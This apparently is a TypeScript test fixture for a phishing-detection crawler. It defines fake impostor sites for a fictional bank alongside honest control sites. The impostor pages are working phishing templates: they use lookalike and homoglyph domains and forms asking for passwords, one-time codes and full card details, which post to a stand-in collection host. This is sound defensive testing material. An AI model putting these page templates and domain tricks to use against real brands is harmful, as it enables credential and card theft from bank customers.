import type { Asking, Site } from '../../testbed/labelled-site.ts';
import { logoPng } from '../../testbed/logo-pictures.ts';
import { sampleBrands, type SampleBrand } from '../../testbed/sample-brands.ts';
import { everydaySites, htmlPage, type Town } from './everyday-sites.ts';

/** The brand that the demo watches. */
export const watched: SampleBrand = sampleBrands.veltrano;
export const logoPath = '/logo.png';
export const target = 'veltrano-login.com';

export interface Impostor {
  host: string;
  path: string;
  /** How the crawler learns of it. */
  foundBy: 'seed' | 'report';
  site: Site;
}

const logo = async () => ({
  headers: { 'content-type': 'image/png', 'cache-control': 'max-age=3600' },
  body: await logoPng(watched, 300),
});
const image = `<img src="${logoPath}" alt="${watched.name}" width="324">`;

const fields = {
  password:
    '<label>E-mail <input type="email" name="u"></label><label>Password <input type="password" name="p" autocomplete="current-password"></label>',
  code: '<label>One-time code <input name="o" autocomplete="one-time-code" inputmode="numeric"></label>',
  card: '<label>Card number <input name="n" autocomplete="cc-number"></label><label>Valid until <input autocomplete="cc-exp"></label><label>CVC <input autocomplete="cc-csc"></label>',
};

/** A page that loads the logo from the bank's own server and asks for the bank's credentials. */
const kit = (words: string, asks: readonly (keyof typeof fields)[]) => (asking: Asking) => {
  const picture = `<img src="${asking.urlOf(watched.officialDomains[0], logoPath)}" alt="${watched.name}" width="324">`;
  const inputs = asks.map((each) => fields[each]).join('');
  return htmlPage(
    `${watched.name}: ${words}`,
    `${picture}<h1>${words}</h1><p>For your safety ${watched.name} asks every customer to confirm who they are. Your account is limited until then.</p>
       <form action="${asking.urlOf('collect-2291.net', '/post')}" method="post">${inputs}<button>Continue</button></form>
       <p>Payment questions? Write to us on Telegram: <a href="https://t.me/veltrano_desk_help">veltrano_desk_help</a></p><p>&copy; ${watched.name}</p>`,
  );
};

const impostor = (
  host: string,
  page: ReturnType<typeof kit>,
  {
    path = '/',
    foundBy = 'seed',
    more = {},
  }: { path?: string; foundBy?: Impostor['foundBy']; more?: Site['pages'] } = {},
): Impostor => {
  // Names of other scripts are looked up, and visited, in punycode.
  const { hostname } = new URL(`http://${host}`);
  return {
    host: hostname,
    path,
    foundBy,
    site: { host: hostname, pages: { [path]: page, ...more } },
  };
};

const robots = (body: string) => ({ '/robots.txt': { headers: { 'content-type': 'text/plain' }, body } });
const everything = ['password', 'code', 'card'] as const;

export const impostors: readonly Impostor[] = [
  impostor(target, kit('Sign in', everything)),
  impostor('veltrano-secure.net', kit('Confirm your card', everything)),
  impostor('veltrano-verify.de', kit('Confirm your identity', everything)),
  impostor('my-veltrano.info', kit('Your account', everything), { foundBy: 'report' }),
  // The third letter from the end is Cyrillic.
  impostor('veltr\u0430no.com', kit('Sign in to your account', everything)),
  impostor('velltrano.com', kit('Sign in', ['password', 'code']), { foundBy: 'report' }),
  impostor('veltran0.com', kit('Online banking', ['password', 'card']), { foundBy: 'report' }),
  impostor('veltrano.session-check.net', kit('Your session has ended', ['password', 'code']), {
    foundBy: 'report',
  }),
  impostor('veltrano-account.com', kit('Account upgrade', everything), { foundBy: 'report' }),
  impostor('veltrano-support.org', kit('Unlock your card', ['card', 'code']), {
    foundBy: 'report',
    more: robots('User-agent: *\nDisallow: /\n'),
  }),
];

const own = (host: string, words: string): Site => ({
  host,
  pages: {
    '/': htmlPage(
      watched.name,
      `${image}<h1>${words}</h1><p>${watched.promise}</p><form action="/in" method="post">${fields.password}<button>Sign in</button></form>`,
    ),
    [logoPath]: logo,
  },
});

/** Its second page appears only in its sitemap. */
const bargainList: Site = {
  host: 'bargain-list.net',
  pages: {
    '/': htmlPage(
      'Bargains of the week',
      '<h1>Bargains of the week</h1><p>Lamps, rugs and garden chairs.</p>',
    ),
    '/lamps': htmlPage(
      'Lamps',
      '<h1>Lamps</h1><p>Brass lamps from a hotel that has closed, while stocks last.</p>',
    ),
    '/sitemap.xml': (asking: Asking) => ({
      headers: { 'content-type': 'application/xml' },
      body: `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>${asking.urlOf('bargain-list.net', '/lamps')}</loc></url></urlset>`,
    }),
  },
};

/** All other sites: the brand's own, those that may use its name, and unrelated ones. */
export const honestSites = (towns: readonly Town[]): readonly Site[] => [
  ...watched.officialDomains.map((host) => own(host, 'Welcome')),
  ...watched.authorisedDomains.map((host) => own(host, `Partner of ${watched.name}`)),
  ...everydaySites(watched, towns),
  bargainList,
];
